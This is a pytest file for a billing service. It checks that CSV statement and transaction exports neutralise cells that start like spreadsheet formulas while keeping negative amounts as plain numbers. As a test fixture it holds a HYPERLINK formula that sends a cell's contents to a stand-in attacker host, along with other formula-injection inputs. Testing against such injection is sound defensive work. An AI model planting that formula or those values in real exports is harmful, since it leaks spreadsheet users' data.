"""CSV exports open in a spreadsheet as data: a name that starts like a formula is neutralised, numbers stay numbers."""

import csv
import io
import uuid
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import time_machine

from billing.metering import close_usage, open_usage
from billing.quote import quote
from core.csvsafe import neutralise

pytestmark = pytest.mark.django_db

START = datetime(2026, 3, 2, 9, 0, tzinfo=ZoneInfo("Asia/Shanghai"))
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    "cell, shown",
    [
        ("=1+2", "'=1+2"),
        ("+1+2", "'+1+2"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("-0.19", "-0.19"),
        ("-12.50", "-12.50"),
        ("+5", "+5"),
        ("train", "train"),
        ("", ""),
    ],
)
def test_a_cell_that_would_start_a_formula_gets_a_quote_and_a_number_does_not(cell, shown):
    assert neutralise(cell) == shown


def _usage(user, catalog, *, label, minutes=60):
    resource = uuid.uuid4()
    q = quote(chip=catalog["mlu370-x8"], cards=1, at=START)
    open_usage(user=user, kind="instance", resource_id=resource, quote=q, started_at=START, label=label)
    with time_machine.travel(START + timedelta(minutes=minutes), tick=False):
        close_usage(resource_id=resource, ended_at=START + timedelta(minutes=minutes))


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_a_statement_csv_neutralises_a_resource_name_that_starts_like_a_formula(owner_client, owner, catalog, fund):
    fund(owner, "100")
    with time_machine.travel(START, tick=False):
        _usage(owner, catalog, label=FORMULA)
        _usage(owner, catalog, label="@SUM(A1:A9)")

    rows = _rows(owner_client.get("/billing/statements/?month=2026-03&format=csv"))

    names = {row[2] for row in rows[1:-1]}
    assert names == {"'" + FORMULA, "'@SUM(A1:A9)"}
    assert not any(cell.startswith(("=", "@")) for row in rows for cell in row)


def test_the_transactions_csv_keeps_negative_amounts_as_plain_numbers(owner_client, owner, catalog, fund):
    fund(owner, "100")
    with time_machine.travel(START, tick=False):
        _usage(owner, catalog, label=FORMULA)

    rows = _rows(owner_client.get("/billing/transactions/?format=csv"))

    amounts = [row[3] for row in rows[1:]]
    assert "-1.53" in amounts and "100.00" in amounts  # a charge and the funding, as numbers
